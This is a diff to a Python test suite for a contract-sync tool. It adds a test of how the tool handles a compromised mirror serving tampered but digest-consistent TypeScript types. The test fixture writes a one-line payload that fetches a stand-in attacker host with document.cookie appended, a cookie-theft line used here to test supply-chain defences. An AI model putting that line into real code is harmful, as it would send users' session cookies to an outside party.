@@ -54,11 +54,12 @@ def web_server(directory: Path) -> Iterator[str]:
         yield url
 
 
-def _frontend(tmp_path: Path, registry: str, options: str) -> Path:
+def _frontend(tmp_path: Path, registry: str, options: str, generate: str = "registry") -> Path:
     web = tmp_path / "web"
-    web.mkdir()
+    web.mkdir(exist_ok=True)
     (web / "contractsync.toml").write_text(
-        f'[pull]\nregistry = "{registry}"\ncontract = "bookshop"\ntypes = "types.ts"\n{options}', encoding="utf-8")
+        f'[pull]\nregistry = "{registry}"\ncontract = "bookshop"\ntypes = "types.ts"\ngenerate = "{generate}"\n'
+        f'{options}', encoding="utf-8")
     return web
 
 
@@ -141,3 +142,38 @@ def test_a_tampered_mirror_contract_is_refused(tmp_path: Path, monkeypatch: pyte
     assert run.code == 2
     assert "does not match its digest" in run.err and len(run.err.strip().splitlines()) == 1
     assert not (web / "types.ts").exists() and not (web / "contractsync.lock").exists()
+
+
+@pytest.mark.parametrize("generate", ["local", "verify", "registry"])
+def test_a_mirror_serving_consistent_but_other_types(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], mirror: Path,
+        v1_spec: Path, generate: str) -> None:
+    """A compromised mirror whose types.ts and index.json digest agree (nothing an ETag can show):
+    ``local`` never reads them, ``verify`` refuses naming the contract and version, ``registry``
+    trusts the mirror — that is what it means, and why it is not the default."""
+    import shutil
+
+    copy = tmp_path / "mirror"
+    shutil.copytree(mirror, copy)
+    evil = b"export const stolen = fetch('https://evil.example/' + document.cookie);\n"
+    for record in copy.glob("v1/contracts/bookshop/versions/*/index.json"):
+        (record.parent / "types.ts").write_bytes(evil)
+        data = json.loads(record.read_bytes())
+        data["artifacts"]["types.ts"]["digest"] = digest_of(evil)
+        record.write_bytes(orjson.dumps(data))
+    with web_server(copy) as url:
+        web = _frontend(tmp_path, url, "", generate)
+        run = cli(monkeypatch, capsys, web, "pull", env={"CONTRACTSYNC_CACHE_DIR": str(tmp_path / "cache"),
+                                                          "CONTRACTSYNC_TOKEN": None})
+    local = to_typescript(json.loads(v1_spec.read_text(encoding="utf-8")), TypeScriptOptions())
+    if generate == "verify":
+        assert run.code == 2, run.err
+        assert len(run.err.strip().splitlines()) == 1
+        assert "the types served for bookshop version 1 (sha256:" in run.err and digest_of(evil) in run.err
+        assert not (web / "types.ts").exists() and not (web / "contractsync.lock").exists()
+        return
+    assert run.code == 0, run.err
+    lock = json.loads((web / "contractsync.lock").read_text(encoding="utf-8"))
+    assert lock["generator"]["generate"] == generate
+    written = (web / "types.ts").read_bytes()
+    assert written == (local.encode("utf-8") if generate == "local" else evil)
